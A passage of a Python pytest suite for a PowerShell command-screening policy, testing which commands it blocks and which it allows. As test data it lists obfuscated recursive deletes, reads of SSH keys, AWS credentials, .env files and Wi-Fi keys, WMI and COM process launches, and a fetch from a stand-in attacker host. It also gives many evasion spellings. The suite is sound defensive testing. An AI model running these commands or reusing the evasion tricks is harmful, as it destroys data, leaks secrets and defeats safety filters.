            ("$p=@{Path='x'; Recurse=$true}; Remove-Item @p", "destructive.recursive-delete"),
            ("$p=@{r=$true}; Remove-Item x @p", "destructive.recursive-delete"),
            ("$p=@{Recurse=1}; Remove-Item x @p", "destructive.recursive-delete"),
            ("$p=@{'Recurse'=$true}; Remove-Item x @p", "destructive.recursive-delete"),
            ("$p=@{Recurse=$true; Force=$true}; ri .\\src @p", "destructive.recursive-delete"),
            ("$p=@{Path='x'}; $p.Recurse=$true; Remove-Item @p", "destructive.recursive-delete"),
            ("$p=@{Path='x'}; $p['Recurse']=$true; Remove-Item @p", "destructive.recursive-delete"),
            ("$a=@('x','-rf'); rm @a", "destructive.recursive-delete"),
            ("$p=@{Uri='http://x'}; Invoke-WebRequest @p", "network"),
            ("$p=@{Path='x'}; Remove-Item @p @q", "dynamic.arguments"),
            ("Remove-Item x @p", "dynamic.arguments"),
            ("& ('Remove'+'-Item') -Recurse x", "destructive.recursive-delete"),
            ('& ("Remove" + "-Item") -Recurse x', "destructive.recursive-delete"),
            ("& ('{0}-{1}' -f 'Remove','Item') -Recurse x", "destructive.recursive-delete"),
            ("& (-join ('Remove','-Item')) -Recurse x", "destructive.recursive-delete"),
            ("iex ('Remove-Item' + ' -Recurse x')", "destructive.recursive-delete"),
            ("iex ('{0} -Recurse x' -f 'Remove-Item')", "destructive.recursive-delete"),
            ("Invoke-Expression (-join ('ri',' -r x'))", "destructive.recursive-delete"),
            ("Get-ChildItem ('env' + ':')", "env.environment-drive"),
            ("& ('Remove'+'-Item'+$x) -Recurse x", "dynamic.command-name"),
            ("& ('Remove'+\"-$x\") -Recurse x", "dynamic.command-name"),
            ("& ('{0}{1}' -f 'Remove') x", "dynamic.command-name"),
            ("& ('Get'+'-Date')", "dynamic.command-name"),
            ("iex ('Get-Date' + $x)", "dynamic.script"),
        ],
        assert_blocked,
    )


@pytest.mark.parametrize(
    "command",
    [
        "$p=@{Recurse=$false}; Get-ChildItem @p",
        "$p=@{Path='src'}; Get-ChildItem @p",
        "Write-Output ('a' + 'b')",
        "$x = 'a' + 'b'",
        "'{0} items' -f 3",
        "iex ('Get-' + 'Date')",
    ],
)
def test_harmless_splats_and_string_operators_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


@pytest.mark.parametrize(
    "command",
    [
        "sal zz ri; zz -r x",
        "Set-Alias -Name zz -Value rm; zz -Recurse x",
        "New-Alias zz del; zz x -Recurse",
        "Set-Alias a1 Remove-Item; Set-Alias a2 a1; a2 -Recurse x",
    ],
)
def test_an_alias_of_an_alias_names_its_final_command(command: str) -> None:
    assert_blocked(command, "destructive.recursive-delete")


# -- `-- 'x'` is the end of the options and a word, not a decrement of the string --
@pytest.mark.parametrize(
    "command",
    ["git grep -n \"TODO\" -- '*.py'", "git checkout -- 'file name.txt'", 'git log -- "src/x y"'],
)
def test_dashdash_before_a_quoted_word_stays_allowed(command: str) -> None:
    assert_allowed_clean(command)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("Remove-Item x -- '-Recurse' -Recurse", "destructive.recursive-delete"),
        ("rm -rf -- 'x'", "destructive.recursive-delete"),
        ("git clean -fdx -- '.'", "destructive.git-clean"),
        ("git checkout -- $(Remove-Item -r x)", "destructive.recursive-delete"),
        ('Write-Output -- "$env:SECRET"', "env.powershell-environment"),
    ],
)
def test_dashdash_before_a_word_hides_nothing(command: str, expected: str) -> None:
    assert_blocked(command, expected)


# -- a variable glued to a path (`$HOME\projects`) is one word --
@pytest.mark.parametrize(
    "command",
    ["gci $HOME\\projects", "gci $HOME/projects", "gci ${HOME}\\x", "Set-Location $PSScriptRoot\\..\\src"],
)
def test_variable_paths_parse_and_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("gci $env:USERPROFILE\\x", "env.powershell-environment"),
        ("Get-Content $HOME\\.ssh\\id_rsa", "env.secret-files"),
        ("Get-Content $HOME/.aws/credentials", "env.secret-files"),
        ("Get-Content ${env:USERPROFILE}\\.ssh\\id_rsa", "env"),
        ("Remove-Item -Recurse $HOME\\projects", "destructive.recursive-delete"),
        ("Remove-Item $PSScriptRoot\\..\\x -Recurse", "destructive.recursive-delete"),
        ("gci $HOME\\x; Remove-Item -r y", "destructive.recursive-delete"),
    ],
)
def test_variable_paths_hide_nothing(command: str, expected: str) -> None:
    assert_blocked(command, expected)


def test_more_object_and_wmi_spellings_block() -> None:
    every_case(
        [
            ("Get-CimInstance Win32_Environment", "env"),
            ("gwmi Win32_Environment | Format-Table", "env"),
            ("Get-ItemProperty HKCU:\\Environment", "env"),
            ("reg query HKCU\\Environment", "env"),
            ("wmic environment list", "env"),
            ("(Get-Process -Id $PID).StartInfo.EnvironmentVariables", "env.object-environment"),
            ("Get-Process | ForEach-Object { $_.Kill() }", "destructive.object-system"),
            ("[Diagnostics.Process]::GetProcesses() | % Kill", "destructive.object-system"),
            ("(Get-WmiObject Win32_OperatingSystem).Win32Shutdown(1)", "destructive.object-system"),
            ("[IO.File]::Open('x.txt', 'Truncate')", "destructive.truncating-write"),
            ("[Net.Http.SocketsHttpHandler]::new()", "network"),
        ],
        assert_blocked,
    )


@pytest.mark.parametrize(
    "command",
    [
        "Get-ChildItem environment",
        "Get-ChildItem .\\environment",
        "Get-CimInstance Win32_OperatingSystem",
        "(Get-Process -Id $PID).Id",
        "Stop-Process -Id 1234",
    ],
)
def test_more_object_and_wmi_look_alikes_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


WRAPPINGS = [
    lambda c: "git status; " + c,
    lambda c: "& { " + c + " }",
    lambda c: ". { " + c + " }",
    lambda c: "if ($true) { " + c + " }",
    lambda c: "try { " + c + " } catch { }",
    lambda c: "foreach ($q in 1) { " + c + " }",
    lambda c: "$(" + c + ")",
    lambda c: "iex '" + c.replace("'", "''") + "'",
    lambda c: "Invoke-Command -ScriptBlock { " + c + " }",
    lambda c: c + " --",
]


def test_every_blocked_case_stays_blocked_when_wrapped() -> None:
    def check_one(wrap: int) -> None:
        missed = [c for c, _ in ALL_BLOCKED if check(WRAPPINGS[wrap](c)).allowed]
        assert not missed

    every_case(range(len(WRAPPINGS)), check_one)


@pytest.mark.parametrize(
    "command",
    ["dir -s | del", "gci -s | Remove-Item", "Get-ChildItem -s:$true | ri", "$f = ls -s; $f | rm"],
)
def test_get_childitem_s_is_its_recurse_alias(command: str) -> None:
    assert_blocked(command, "destructive.recursive-delete")


def test_get_childitem_system_files_are_not_a_recursion() -> None:
    assert_allowed_clean("Get-ChildItem -System | Remove-Item")


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('Get-Content "env:$name"', "env.environment-drive"),
        ('Get-ChildItem "env:$x"', "env.environment-drive"),
        ('gc -Path "Env:\\$n"', "env.environment-drive"),
    ],
)
def test_interpolated_words_are_checked_with_their_literal_part(command: str, expected: str) -> None:
    assert_blocked(command, expected)


@pytest.mark.parametrize(
    "command",
    ['Write-Output "Processing $file"', 'Get-Content "$dir\\readme.md"', 'Remove-Item "$dir\\x.txt"'],
)
def test_interpolated_harmless_words_stay_allowed(command: str) -> None:
    assert_allowed_clean(command)


# -- `$( )` holding only a literal is that literal; a drive named at run time may be Env: --
EXPANDABLE_BLOCKED = [
    ("Get-ChildItem \"$('Env'):\"", "env.environment-drive"),
    ("Get-ChildItem \"$('En'+'v'):\"", "env.environment-drive"),
    ("Get-ChildItem \"$(-join ('E','nv')):\\\"", "env.environment-drive"),
    ("gc \"$('env'):API_KEY\"", "env.powershell-environment"),  # one variable, read as `$env:API_KEY`
    ("$x='env'; gci \"${x}:\"", "env.environment-drive"),
    ('Get-PSDrive env | % { gci "$($_.Name):" }', "env.environment-drive"),
    ('Get-PSProvider Environment | % Drives | % { gci "$($_.Name):" }', "env.environment-drive"),
    ('Get-Content "${d}:PATH"', "env"),
    ('Copy-Item "\\\\${h}\\share\\x.dll" -Destination x.dll', "network.locator"),
    ("& \"$('Remove-Item')\" x -Recurse", "destructive.recursive-delete"),
    ("& \"$('echo')\" x", "dynamic.command-name"),
]


EXPANDABLE_ALLOWED = [
    # emptied folders leave `bin\\\dynamic`, which Windows reads as `bin\dynamic`: no UNC path
    'Copy-Item "bin\\${env:Platform}\\${env:Config}\\dynamic\\sodium.lib" -Destination out\\sodium.lib',
    "Get-ChildItem \"$('src')\"",
    "Write-Output \"a $('b') c\"",
    'Get-ChildItem "$PWD\\src"',
    "$d='src'; Get-ChildItem \"$d\\x\"",
    'Get-ChildItem "$($PWD.Path)\\src"',
    'Write-Host "$($x.Count): items"',
    'Write-Output "${n}: done"',
    'Get-Content "$($PSScriptRoot)\\a.txt"',
    'Select-String -Path "$d\\*.cs" -Pattern "x: y"',
]


def test_expandable_blocked() -> None:
    every_case(EXPANDABLE_BLOCKED, assert_blocked)


def test_expandable_allowed() -> None:
    every_case(EXPANDABLE_ALLOWED, assert_allowed)


# -- file paths given to .NET file APIs; registry keys opened through objects --
DOTNET_BLOCKED = [
    ('[IO.File]::ReadAllText("$HOME\\.ssh\\id_rsa")', "env.secret-files"),
    ("[IO.File]::ReadAllText('C:\\Users\\me\\.ssh\\id_rsa')", "env.secret-files"),
    ("[System.IO.File]::ReadAllText('~/.ssh/id_rsa')", "env.secret-files"),
    ("[IO.File]::ReadAllBytes('~\\.aws\\credentials')", "env.secret-files"),
    ("[IO.StreamReader]::new('.env').ReadToEnd()", "env.secret-files"),
    ('[IO.File]::ReadAllLines(".env")', "env.secret-files"),
    ("[File]::ReadAllText('~/.netrc')", "env.secret-files"),
    ("[Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('Environment').GetValue('K')", "env"),
    ("[Microsoft.Win32.RegistryKey]::OpenBaseKey('CurrentUser','Default').OpenSubKey('Environment')", "env"),
    ("(Get-Item HKCU:\\).OpenSubKey('Environment').GetValue('API_KEY')", "env.registry-subkey"),
]


DOTNET_ALLOWED = [
    "[IO.File]::ReadAllText('README.md')",
    "[IO.Path]::Combine('a', 'b')",
    "[string]::Join(',', @('a','b'))",
    '[IO.File]::ReadAllText("$PWD\\src\\a.cs")',
    "[regex]::Match('a.env', 'env')",
    "[IO.File]::Exists('.env.example')",
    "$a = 1, 2; $a.GetValue(0)",
]


def test_dotnet_blocked() -> None:
    every_case(DOTNET_BLOCKED, assert_blocked)


@pytest.mark.parametrize("command", DOTNET_ALLOWED)
def test_dotnet_allowed(command: str) -> None:
    assert_allowed(command)


# -- `using namespace` short type names; programs run from a share; URLs given to methods --
REACH_BLOCKED = [
    ("using namespace System.Net.Sockets; [TcpClient]::new('1.2.3.4',80)", "network"),
    ("using namespace System.Net.Http; [HttpClient]::new()", "network"),
    ("using namespace System.IO; [Directory]::Delete('x',$true)", "destructive"),
    ("using namespace System.IO; [File]::Delete('x')", "destructive"),
    ("& \\\\e.com\\share\\x.exe", "network.windows-remote"),
    ("\\\\e.com\\share\\x.exe", "network.windows-remote"),
    ("& '\\\\e.com\\share\\x.exe'", "network.windows-remote"),
    (". \\\\e.com\\share\\x.ps1", "network.windows-remote"),
    ("& '//e.com/share/x.exe'", "network.windows-remote-slash"),
    ("Get-Content //srv/share/x", "network.windows-remote-slash"),
    ("Select-Xml -Path //srv/share/x.xml -XPath '//a/b'", "network.windows-remote-slash"),
    ("$x = [xml]::new(); $x.Load('http://e.com/a.xml')", "network.url-method"),
    ("[xml]::new().Load('http://e.com/a.xml')", "network.url-method"),
    ("(New-Object System.Xml.XmlDocument).Load('http://e.com/a.xml')", "network.url-method"),
    ("[System.Xml.XmlReader]::Create('http://e.com/a.xml')", "network.url-method"),
    ("[System.Xml.Linq.XDocument]::Load('https://e.com/a')", "network.url-method"),
]


REACH_ALLOWED = [
    "using namespace System.Text; [StringBuilder]::new()",
    # XPath steps: a server's name holds no `:` or `[`
    "Select-Xml -Xml $trx -XPath '//t:ResultSummary/t:Counters' -Namespace $ns",
    "Select-Xml -Path books.xml -XPath '//book[@id]/title'",
    "Select-Xml -Path .\\EZOut.types.ps1xml -XPath '//Type/Name' | ForEach-Object { $_.Node.InnerText }",
    "& .\\build.ps1",
    ".\\tools\\x.exe",
    "$u.Replace('http://e.com','https://e.com')",
    "[uri]::new('https://e.com').Host",
    "[regex]::Match($s, 'https://\\S+')",
    "$s.StartsWith('https://')",
    "[xml]::new().Load('a.xml')",
    "$sb.AppendLine('see https://e.com')",
    "Write-Host 'https://e.com'",
]


def test_reach_blocked() -> None:
    every_case(REACH_BLOCKED, assert_blocked)


def test_reach_allowed() -> None:
    every_case(REACH_ALLOWED, assert_allowed)


# -- a script block the command runs, held in a variable --
BLOCK_VARIABLE_BLOCKED = [
    "Invoke-Command -ScriptBlock $sb",
    "Invoke-Command -ScriptBlock:$sb",
    "Invoke-Command -Script $sb",
    "Start-Job -ScriptBlock $sb",
    "Start-Job $sb",
    "Start-ThreadJob $sb",
    "New-Module -ScriptBlock $sb",
    "1 | Where-Object -FilterScript $sb",
    "Measure-Command $sb",
    "Measure-Command -Expression $h.a",
    "1 | ForEach-Object -Begin $b -Process { }",
    "Register-ObjectEvent $t Elapsed -Action $a",
    # a parameter PowerShell resolves from an abbreviation or an alias
    "Start-Job -ini $x { 1 }",
    "icm -Command $sb",
    "icm -Sc $sb",
    "gci | ? -f $f",
]


BLOCK_VARIABLE_ALLOWED = [
    "Invoke-Command -ScriptBlock { Get-Date }",
    "Start-Job { Get-Date }",
    "Measure-Command { dotnet test }",
    "1 | ForEach-Object -Process { $_ }",
    "1 | Where-Object -FilterScript { $_ -gt 0 }",
    "gci | Where-Object Name -eq $n",
    "gci | Sort-Object -Property $p",
    "Start-Process notepad -ArgumentList $f",
    # Where-Object's operators and Select-Object's parameters are no script block (`-in` is not
    # `-InitializationScript`, `-exp` not `-Expression`)
    "gci | Where-Object Name -in $names",
    "gci | Where-Object Extension -in '.cs','.fs'",
    "gci | ? Name -notin $skip",
    "Get-Process | Select-Object -exp Name",
    "ls *.log | measure -sum Length | select -exp Sum",
]


def test_block_variable_blocked() -> None:
    every_case(BLOCK_VARIABLE_BLOCKED, lambda command: assert_blocked(command, "dynamic.command-name"))


@pytest.mark.parametrize("command", BLOCK_VARIABLE_ALLOWED)
def test_block_variable_allowed(command: str) -> None:
    assert_allowed(command)


# -- calculated properties after a bare word (`Select-Object Name, @{...}`) parse, and are still read --
CALCULATED_ALLOWED = [
    "gci | Select-Object Name, @{n='S';e={$_.Length}}",
    "Select-Object @{n='S'}, Name",
    "Format-Table Name, @{l='x';e={1}} -AutoSize",
    "Select-Object Name, @{ n='S'; e={ 1 } }",
    "git log --grep='a b'",
]


CALCULATED_BLOCKED = [
    ("gci | Select-Object Name, @{n='S';e={Remove-Item x -Recurse}}", "destructive.recursive-delete"),
    ("Select-Object Name, @{n='S';e={$env:API_KEY}}", "env"),
    ("Format-Table Name, @{l='x';e={iwr https://e.com}}", "network"),
]


@pytest.mark.parametrize("command", CALCULATED_ALLOWED)
def test_calculated_allowed(command: str) -> None:
    assert_allowed(command)


@pytest.mark.parametrize(("command", "expected"), CALCULATED_BLOCKED)
def test_calculated_blocked(command: str, expected: str) -> None:
    assert_blocked(command, expected)


# -- redirections glued to words: PowerShell ends a bare word at `>` --
GLUED_REDIRECT_BLOCKED = [
    ("echo hi>~\\out.txt", "destructive.truncating-redirect"),
    ("echo hi >~\\out.txt", "destructive.truncating-redirect"),
    ("echo hi 2>~\\err.txt", "destructive.truncating-redirect"),
    ("echo x >..\\data\\app.db", "destructive.truncating-redirect"),
    ("2>nul Remove-Item x -Recurse", "dynamic.command-name"),
    ("2>>x.log Remove-Item x -Recurse", "dynamic.command-name"),
    (">x.log ri x -r", "dynamic.command-name"),
]


GLUED_REDIRECT_ALLOWED = [
    "echo hi 2>$null",
    "echo hi>>x.log",
    "Get-Date >>x.log",
    "git log 2>&1",
    "echo a`>b",
    "echo 'a>b'",
    "echo hi >$null",
]


@pytest.mark.parametrize(("command", "expected"), GLUED_REDIRECT_BLOCKED)
def test_glued_redirect_blocked(command: str, expected: str) -> None:
    assert_blocked(command, expected)


@pytest.mark.parametrize("command", GLUED_REDIRECT_ALLOWED)
def test_glued_redirect_allowed(command: str) -> None:
    assert_allowed(command)


# -- a path computed from literals in a way the policy does not evaluate may name the Env: drive --
COMPUTED_PATH_BLOCKED = [
    "Get-ChildItem -Path ([System.IO.Path]::Combine('env:', ''))",
    "Get-ChildItem ([string]'env:')",
    "Get-ChildItem ('env:').ToString()",
    "Get-ChildItem 'env:'.Trim()",
    "Get-ChildItem ('xenv:'.Substring(1))",
    "Get-ChildItem ('ENV:'.ToLower())",
    "Get-ChildItem ('vne:'[-1..-4] -join '')",
    "gc ('vne:'[-1..-4] -join '')",
    "gci -Force ('env:'.Trim())",
]


COMPUTED_PATH_ALLOWED = [
    "Get-ChildItem (Get-Location)",
    "Get-ChildItem (Join-Path src x)",
    "Write-Output ('a'.ToUpper())",
    "Get-ChildItem -Depth (1+1) src",
    "Get-Content ('a.txt','b.txt')",
    "Get-ChildItem -Path src -Filter ('*.cs'.Trim())",
    "Get-Date -Format ('yyyy'.Trim())",
    "Start-Sleep -Seconds (2*3)",
    "Get-Content a.txt -TotalCount (5+5)",
]


def test_computed_path_blocked() -> None:
    every_case(COMPUTED_PATH_BLOCKED, lambda command: assert_blocked(command, "env.environment-drive"))


def test_computed_path_allowed() -> None:
    every_case(COMPUTED_PATH_ALLOWED, assert_allowed)


def test_visual_basic_shell_runs_a_program() -> None:
    assert_blocked("[Microsoft.VisualBasic.Interaction]::Shell('cmd /c rd /s /q x')", "unverifiable")


# -- escapes and stop-parsing around parameters --
PARAMETER_SPELLINGS_BLOCKED = [
    "Remove-Item x -Recurse`:$true",
    "Remove-Item x -Recurse`:1",
    "Remove-Item --% x -Recurse",
]


@pytest.mark.parametrize("command", PARAMETER_SPELLINGS_BLOCKED)
def test_parameter_spellings_blocked(command: str) -> None:
    assert_blocked(command, "destructive.recursive-delete")


def test_stop_parsing_native_allowed() -> None:
    assert_allowed("git --% log -n 5")


# -- default aliases the table lacked --
ALIASES_BLOCKED = [
    ("rvpa env:*", "env.environment-drive"),
    ("trcm -Name x -Expression $e", "dynamic.command-name"),
    ("nmo -ScriptBlock $sb", "dynamic.command-name"),
    ("nmo { Remove-Item x -Recurse }", "destructive.recursive-delete"),
]


@pytest.mark.parametrize(("command", "expected"), ALIASES_BLOCKED)
def test_aliases_blocked(command: str, expected: str) -> None:
    assert_blocked(command, expected)


@pytest.mark.parametrize("command", ["h", "gmo", "gjb", "clear", "gu", "gcs"])
def test_harmless_aliases_allowed(command: str) -> None:
    assert_allowed(command)


# -- COM objects and WMI classes that run programs --
OBJECT_RUNNERS_BLOCKED = [
    ("New-Object -ComObject Schedule.Service", "unverifiable.payload-process"),
    ("New-Object -ComObject Excel.Application", "unverifiable.payload-process"),
    ("New-Object -ComObject Outlook.Application", "unverifiable.payload-process"),
    ("New-Object -ComObject ADODB.Stream", "unverifiable.payload-process"),
    ("(Get-WmiObject -List Win32_Process).Create('cmd')", "unverifiable.wmi-object-method"),
    ("Get-WmiObject -Class Win32_Process -List | % Create 'cmd'", "unverifiable.wmi-object-method"),
    (
        "$c = Get-CimClass Win32_Process; $c.InvokeMethod('Create', @('cmd'))",
        "unverifiable",
    ),
]


@pytest.mark.parametrize(("command", "expected"), OBJECT_RUNNERS_BLOCKED)
def test_object_runners_blocked(command: str, expected: str) -> None:
    assert_blocked(command, expected)


@pytest.mark.parametrize("command", ["Get-WmiObject -List Win32_Process", "[IO.Path]::Combine('a', 'b')"])
def test_object_lookalikes_allowed(command: str) -> None:
    assert_allowed(command)


# -- cloud modules and stored Wi-Fi keys --
CLOUD_BLOCKED = [
    ("Connect-AzAccount", "network.cloud-cmdlets"),
    ("Connect-ExchangeOnline", "network.cloud-cmdlets"),
    ("Connect-MgGraph", "network.cloud-cmdlets"),
    ("Get-AzResource", "network.cloud-cmdlets"),
    ("Invoke-EnumerateAzureSubDomains -Base contoso -Verbose", "network.cloud-cmdlets"),
    ("Get-S3Bucket", "network.cloud-cmdlets"),
    ("netsh wlan show profile name=x key=clear", "env.wifi-keys"),
    ("cmd /c netsh wlan show profiles name=x key=clear", "env.wifi-keys"),
]


CLOUD_ALLOWED = [
    "Get-Member",
    "Get-Module",
    "Measure-Object",
    "Get-Acl .\\x",
    "Get-Unique",
    "echo Connect-AzAccount",
    "netsh wlan /?",
]


@pytest.mark.parametrize(("command", "expected"), CLOUD_BLOCKED)
def test_cloud_blocked(command: str, expected: str) -> None:
    assert_blocked(command, expected)


@pytest.mark.parametrize("command", CLOUD_ALLOWED)
def test_cloud_allowed(command: str) -> None:
    assert_allowed(command)


# -- paths given as arrays glued by the grammar, and as pipeline input --
PATH_INPUT_BLOCKED = [
    "Get-ChildItem ., env:",
    "Get-ChildItem .,env:",
    "Get-ChildItem -Path ., env:",
    "'env:' | Get-ChildItem",
    "'env:' | gci",
    "'.', 'env:' | gci",
    "[pscustomobject]@{Path='env:'} | Get-ChildItem",
    "[pscustomobject]@{PSPath='env:'} | gi",
]


PATH_INPUT_ALLOWED = [
    "Get-ChildItem src,tests",
    "git log --format=%H,%s -n 1",
    "Select-Object Name,Length",
    "'src' | Get-ChildItem",
    "'a.txt' | Get-Content",
    "'env:' | Select-String env",
]


@pytest.mark.parametrize("command", PATH_INPUT_BLOCKED)
def test_path_input_blocked(command: str) -> None:
    assert_blocked(command, "env.environment-drive")


@pytest.mark.parametrize("command", PATH_INPUT_ALLOWED)
def test_path_input_allowed(command: str) -> None:
    assert_allowed(command)


@pytest.mark.parametrize(
    "command", ["Get-ChildItem env:$x", "$n='API_KEY'; Get-Content env:$n", "gci env:\\$x", "gi Env:$n"]
)
def test_bare_word_variables_blocked(command: str) -> None:
    assert_blocked(command, "env")


@pytest.mark.parametrize("command", ["Get-ChildItem src\\$x", "$d='src'; Get-ChildItem $d\\x"])
def test_bare_word_variables_allowed(command: str) -> None:
    assert_allowed(command)


# -- literal values reaching a path through loops, `$_`, splatted strings and array expressions --
LOOP_VALUES_BLOCKED = [
    "foreach ($d in 'env:') { gci $d }",
    "'env:' | % { gci $_ }",
    "'env:' | ForEach-Object { Get-ChildItem $PSItem }",
    "$a='env:'; gci @a",
    "Get-ChildItem @('.', 'env:')",
]


LOOP_VALUES_ALLOWED = [
    "foreach ($d in 'src', 'tests') { gci $d }",
    "'src' | % { gci $_ }",
    "Get-ChildItem @('src', 'tests')",
    "1..3 | % { $_ * 2 }",
]


@pytest.mark.parametrize("command", LOOP_VALUES_BLOCKED)
def test_loop_values_blocked(command: str) -> None:
    assert_blocked(command, "env.environment-drive")


@pytest.mark.parametrize("command", LOOP_VALUES_ALLOWED)
def test_loop_values_allowed(command: str) -> None:
    assert_allowed(command)


@pytest.mark.parametrize("command", ["$x = 'en'; gci ($x + 'v:')", "$x = 'en'; $y = 'v:'; gci ($x + $y)"])
def test_joined_variables_blocked(command: str) -> None:
    assert_blocked(command, "env.environment-drive")


@pytest.mark.parametrize("command", ["$x = 'sr'; gci ($x + 'c')", "$r = 'src'; gci ($r + '\\x')"])
def test_joined_variables_allowed(command: str) -> None:
    assert_allowed(command)


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("cmd /c echo %PATH:~0,10%", "env.powershell-environment"),
        ("cmd /c echo %API_KEY:a=b%", "env.powershell-environment"),
        ("cmd /c echo !TOKEN:~1!", "env.powershell-environment"),
        ("icm srv { Get-Date }", "network.socket"),
    ],
)
def test_cmd_variable_substrings_and_remote_invoke_block(command: str, rule: str) -> None:
    assert Policy.default().check(command, "powershell").rule_id == rule


@pytest.mark.parametrize("command", ["Invoke-Command { Get-Date }", "icm { Get-Date }", "cmd /c echo 100%"])
def test_local_script_blocks_and_literal_percent_stay_allowed(command: str) -> None:
    assert Policy.default().check(command, "powershell").allowed


# A block after a comma (a calculated property, a sort key) is respelled in parentheses: the same element.
BLOCK_ELEMENTS_ALLOWED = [
    "Get-Process | Select-Object -Property ProcessName,{$_.StartTime.DayOfWeek}",
    "Get-ChildItem | Select-Object -Property Name, {$_.Length}",
    "Get-ChildItem | Select-Object Name , { if ($_.PSIsContainer) { 'dir' } else { $_.Length } }",
]
BLOCK_ELEMENTS_BLOCKED = [
    (
        "Get-ChildItem | Select-Object Name,{Remove-Item -Recurse -Force C:\\Users}",
        "destructive.recursive-delete",
    ),
    ("ls | Sort-Object Name, {(Invoke-WebRequest https://attacker.example).Content}", "network.http-client"),
]


def test_a_block_after_a_comma_parses_and_its_code_is_still_checked() -> None:
    every_case(BLOCK_ELEMENTS_ALLOWED, assert_allowed_clean)
    every_case(BLOCK_ELEMENTS_BLOCKED, assert_blocked)
